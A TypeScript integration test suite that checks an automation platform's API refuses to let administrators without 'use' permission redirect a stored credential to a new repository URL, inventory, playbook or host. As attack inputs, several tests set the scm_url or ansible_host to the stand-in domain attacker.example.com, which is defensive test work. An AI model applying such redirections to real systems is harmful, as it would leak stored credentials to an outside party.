/** A stored credential is never sent to a new destination by a user without `use` on it. */
import type { Row } from '../../src/common/resource/define-resource.js';
import { boot, type TestApp } from '../support/boot.js';
import type { ApiClient } from '../support/client.js';

let test: TestApp;
let environment: Row;
beforeAll(async () => {
  test = await boot();
  environment = await test.make.row('execution_environment', { name: 'Tools', image: 'tools' });
});
afterAll(() => test.close());

type Grant = readonly [type: string, object: Row, role: string];

/**
 * Creates two administrators of one object: one without `use` on the attached credential, and one with it.
 */
async function admins(
  type: string,
  object: Row,
  kept: readonly Grant[],
  both: readonly Grant[] = [],
): Promise<{ untrusted: ApiClient; trusted: ApiClient }> {
  const { as, home, make } = test;
  const [untrusted, trusted] = [await make.user(), await make.user()];
  const common: Grant[] = [
    ['organization', home.organization, 'member_role'],
    [type, object, 'admin_role'],
    ...both,
  ];
  for (const [of, one, role] of common) {
    for (const user of [untrusted, trusted]) await make.grant(of, one, role, { user });
  }
  for (const [of, one, role] of kept) await make.grant(of, one, role, { user: trusted });
  return { untrusted: await as.asUser(untrusted), trusted: await as.asUser(trusted) };
}

const machine = (): Promise<Row> =>
  test.make.credential({
    organization: test.home.organization.id,
    inputs: { username: 'root', password: 'machine-secret' },
  });

async function attach(url: string, credential: Row): Promise<void> {
  await test.as.superuser.post(`${url}credentials/`, { id: credential.id }).expect(204);
}

describe('the credential of a project', () => {
  const SOURCE = { scm_type: 'git', scm_url: 'https://git.example.com/a.git' };
  const ELSEWHERE = { scm_url: 'https://attacker.example.com/a.git' };
  let project: Row;
  let credential: Row;
  let clients: Awaited<ReturnType<typeof admins>>;
  let url: string;
  beforeEach(async () => {
    const { home, make } = test;
    const organization = home.organization.id;
    credential = await make.credential({ organization, namespace: 'scm' });
    project = await make.project({ organization, ...SOURCE, credential: credential.id });
    clients = await admins('project', project, [['credential', credential, 'use_role']]);
    url = `projects/${project.id}/`;
  });

  it('is not sent to another address by an admin without use on it', async () => {
    const { body } = await clients.untrusted.patch(url, ELSEWHERE).expect(403);
    expect(body).toEqual({
      detail:
        'Changing scm_url requires permission to use the current credential, or another credential.',
    });
    await clients.untrusted.patch(url, { scm_type: '', local_path: 'plain' }).expect(403);
    const shown = await test.as.superuser.get(url).expect(200);
    await clients.untrusted.put(url, { ...shown.body, ...ELSEWHERE }).expect(403);
    expect((await test.as.superuser.get(url)).body).toMatchObject(SOURCE);
  });

  it('stays after changes that do not affect its destination', async () => {
    const { body } = await clients.untrusted
      .patch(url, { description: 'changed', scm_branch: 'main', ...SOURCE })
      .expect(200);
    expect(body.credential).toBe(credential.id);
  });

  it('stays for users with use on it, and can be replaced or removed', async () => {
    await clients.trusted.patch(url, ELSEWHERE).expect(200);
    const none = { ...SOURCE, credential: null };
    await clients.untrusted.patch(url, none).expect(200);
    await clients.untrusted.patch(url, ELSEWHERE).expect(200);
  });
});

describe('the credentials of a job template', () => {
  let template: Row;
  let clients: Awaited<ReturnType<typeof admins>>;
  let own: { project: Row; inventory: Row };
  beforeEach(async () => {
    const { home, make } = test;
    const organization = home.organization.id;
    const [project, inventory, credential] = [
      await make.project({ organization }),
      await make.inventory({ organization }),
      await machine(),
    ];
    own = {
      project: await make.project({ organization }),
      inventory: await make.inventory({ organization }),
    };
    template = await make.jobTemplate({ project: project.id, inventory: inventory.id });
    await attach(`job_templates/${template.id}/`, credential);
    clients = await admins(
      'job_template',
      template,
      [['credential', credential, 'use_role']],
      [
        ['project', project, 'use_role'],
        ['project', own.project, 'use_role'],
        ['inventory', inventory, 'use_role'],
        ['inventory', own.inventory, 'use_role'],
      ],
    );
  });

  const changes = (): Record<string, unknown>[] => [
    { project: own.project.id },
    { playbook: 'print.yml' },
    { inventory: own.inventory.id },
    { execution_environment: environment.id },
    { extra_vars: 'ansible_host: attacker.example.com' },
    { ask_inventory_on_launch: true },
    { ask_variables_on_launch: true },
    { allow_connection_vars: true },
    { ask_credential_on_launch: true },
  ];

  it('do not run other content after a change by an admin without use on them', async () => {
    const url = `job_templates/${template.id}/`;
    for (const change of changes()) {
      const { body } = await clients.untrusted.patch(url, change).expect(403);
      expect(body.detail).toContain(String(Object.keys(change)[0]));
    }
    const spec = [
      {
        question_name: 'Where',
        variable: 'ansible_host',
        type: 'text',
        required: false,
        default: 'attacker.example.com',
      },
    ];
    const survey = { name: 'Survey', description: '', spec };
    await clients.untrusted.post(`${url}survey_spec/`, survey).expect(403);
    const { body } = await test.as.superuser.get(url).expect(200);
    expect(body).toMatchObject({ project: template.project_id, playbook: 'site.yml' });
    expect(body.ask_inventory_on_launch).toBe(false);
  });

  it('stay after changes that do not affect what runs', async () => {
    const change = { name: 'Renamed', forks: 7, verbosity: 1, limit: 'web', job_tags: 'a' };
    await clients.untrusted.patch(`job_templates/${template.id}/`, change).expect(200);
  });

  it('run other content after a change by a user with use on them', async () => {
    for (const change of changes()) {
      await clients.trusted.patch(`job_templates/${template.id}/`, change).expect(200);
    }
  });
});

describe('the credentials of a node', () => {
  let clients: Awaited<ReturnType<typeof admins>>;
  let workflow: Row;
  let node: Row;
  let own: Row;
  beforeEach(async () => {
    const { home, make } = test;
    const organization = home.organization.id;
    const asks = {
      ask_inventory_on_launch: true,
      ask_credential_on_launch: true,
      ask_variables_on_launch: true,
      ask_execution_environment_on_launch: true,
    };
    const [inventory, credential] = [await make.inventory({ organization }), await machine()];
    const template = await make.jobTemplate({ ...asks, inventory: inventory.id });
    own = await make.jobTemplate(asks);
    workflow = await make.workflowTemplate({ organization });
    node = await make.workflowNode(workflow, {
      unified_job_template: template.id,
      inventory: inventory.id,
    });
    await attach(`workflow_job_template_nodes/${node.id}/`, credential);
    clients = await admins(
      'workflow_job_template',
      workflow,
      [
        ['credential', credential, 'use_role'],
        ['inventory', inventory, 'use_role'],
      ],
      [
        ['job_template', template, 'execute_role'],
        ['job_template', own, 'execute_role'],
      ],
    );
  });

  it('do not run another template after a change by an admin without use on them', async () => {
    const url = `workflow_job_template_nodes/${node.id}/`;
    await clients.untrusted.patch(url, { unified_job_template: own.id }).expect(403);
    await clients.untrusted.patch(url, { extra_data: { target: 'x' } }).expect(403);
    await clients.untrusted.patch(url, { execution_environment: environment.id }).expect(403);
    await clients.untrusted.patch(url, { identifier: 'renamed' }).expect(200);
  });

  it('do not run other content after a change of the workflow', async () => {
    const url = `workflow_job_templates/${workflow.id}/`;
    await clients.untrusted.patch(url, { ask_inventory_on_launch: true }).expect(403);
    await clients.untrusted.patch(url, { extra_vars: 'ansible_host: x' }).expect(403);
    await clients.untrusted.patch(url, { description: 'changed' }).expect(200);
    await clients.trusted.patch(url, { ask_inventory_on_launch: true }).expect(200);
  });

  it('run another template after a change by a user with use on them', async () => {
    const url = `workflow_job_template_nodes/${node.id}/`;
    await clients.trusted.patch(url, { extra_data: { color: 'red' } }).expect(200);
    await clients.trusted.patch(url, { unified_job_template: own.id }).expect(200);
  });
});

it('the credentials of a schedule run no other content without use on them', async () => {
  const { home, make } = test;
  const organization = home.organization.id;
  const template = await make.jobTemplate({
    inventory: (await make.inventory({ organization })).id,
    ask_inventory_on_launch: true,
    ask_credential_on_launch: true,
    ask_variables_on_launch: true,
    ask_execution_environment_on_launch: true,
  });
  const credential = await machine();
  const schedule = await make.row('schedule', {
    name: 'nightly',
    unified_job_template: template.id,
    rrule: 'DTSTART:20300101T000000Z RRULE:FREQ=DAILY;INTERVAL=1',
  });
  const url = `schedules/${schedule.id}/`;
  await attach(url, credential);
  const { untrusted, trusted } = await admins('job_template', template, [
    ['credential', credential, 'use_role'],
  ]);
  await untrusted.patch(url, { extra_data: { target: 'x' } }).expect(403);
  await untrusted.patch(url, { execution_environment: environment.id }).expect(403);
  await untrusted.patch(url, { enabled: false }).expect(200);
  await trusted.patch(url, { extra_data: { color: 'red' } }).expect(200);
});
